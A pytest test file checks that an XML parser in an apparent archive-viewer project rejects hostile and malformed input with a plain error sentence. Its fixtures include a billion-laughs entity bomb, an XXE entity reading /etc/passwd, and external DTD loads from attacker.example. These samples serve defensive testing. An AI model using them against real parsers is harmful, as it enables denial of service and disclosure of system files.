"""parse_xml against hostile and broken input: a MalformedInput sentence, never a traceback."""

from __future__ import annotations

import pytest

from archiveviewer.errors import MalformedInput
from archiveviewer.protocol.safexml import MAX_DEPTH, parse_xml

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>"""

EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>"""

PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><r/>"""

EXTERNAL_DTD = """<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/r.dtd"><r/>"""


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (BILLION_LAUGHS, "document type declaration"),
        (EXTERNAL, "document type declaration"),
        (PARAMETER, "document type declaration"),
        (EXTERNAL_DTD, "document type declaration"),
        ("<a>&undefined;</a>", "undefined entity"),
        ("<archive><store>", "ends before it is complete"),
        ("<archive", "ends in the middle of a tag"),
        ("", "ends before it is complete"),
        ("<a></b>", "not well-formed"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "not well-formed"),
        ("<a/><b/>", "not well-formed"),
        ("<a>" * (MAX_DEPTH + 1), "nested more than"),
    ],
)
def test_hostile_or_broken_xml_is_refused_with_a_sentence(data: str | bytes, words: str) -> None:
    with pytest.raises(MalformedInput, match=words) as caught:
        parse_xml(data)
    assert caught.value.user_message.endswith(".")
    assert caught.value.__cause__ is None  # no parser traceback chained for the user


def test_oversize_input_is_refused_before_parsing() -> None:
    with pytest.raises(MalformedInput, match="larger than the 1,000 bytes"):
        parse_xml("<a>" + "x" * 1000 + "</a>", max_bytes=1000)


def test_ordinary_xml_with_namespaces_and_character_references_parses() -> None:
    root = parse_xml(
        "<?xml version='1.0'?><store xmlns='http://jabber.org/protocol/archive' "
        "xmlns:x='urn:x' x:a='1'><to><body>Romeo &amp; Juliet &#x2764;</body></to></store>"
    )
    assert root.tag == "{http://jabber.org/protocol/archive}store"
    assert root.get("{urn:x}a") == "1"
    assert root.findtext("{http://jabber.org/protocol/archive}to/"
                         "{http://jabber.org/protocol/archive}body") == "Romeo & Juliet \u2764"


def test_a_declared_encoding_is_honoured() -> None:
    data = "<?xml version='1.0' encoding='ISO-8859-1'?><n>Mantua é</n>".encode("latin-1")
    assert parse_xml(data).text == "Mantua é"


def test_text_already_decoded_ignores_its_encoding_declaration() -> None:
    assert parse_xml("<?xml version='1.0' encoding='ISO-8859-1'?><n>Mantua é</n>").text == (
        "Mantua é"
    )
